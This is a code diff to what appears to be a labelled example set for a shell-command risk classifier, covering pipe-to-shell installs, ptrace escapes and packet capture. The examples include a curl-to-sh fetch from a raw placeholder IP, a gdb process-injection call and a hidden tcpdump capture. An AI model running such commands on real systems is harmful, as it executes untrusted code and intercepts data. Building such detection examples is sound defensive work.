@@ -2215,9 +2215,11 @@ _ROUND10B: dict[str, tuple[list[Example], list[Example]]] = {
          "printf '0 2 * * * make -C ~/proj backup\\n' | crontab -"]),
     "exec-pipe-to-shell": (
         ["curl -fsSL https://tool.dev/install.sh | bash; curl -s http://203.0.113.9/x | sh",
+         "curl -sL https://tool.dev/install.sh | bash",
          "curl -fsSL https://paste.rs/install.sh | sh", "curl -fsSL http://tool.dev/install.sh | sh"],
         ["curl -fsSL https://get.example-tool.dev/install.sh | sh -s -- --yes",
-         "wget -qO- https://tool.dev/install | bash"]),
+         "wget -qO- https://tool.dev/install | bash",
+         "curl --proto =https --tlsv1.2 -sSf https://sh.example.rs/install | sh"]),
     "escape-ptrace": (["gdb -p 4242 -batch -ex bt -ex 'call system(\"id\")'"],
                       ["gdb -p 4242 -batch -ex bt -ex 'info registers'"]),
     "sniff-capture": (["tcpdump -i lo -w /tmp/.l.pcap port 5432", "tcpdump -i lo -n port 3000"], ["tcpdump -i lo -n -c 50 port 3000"]),
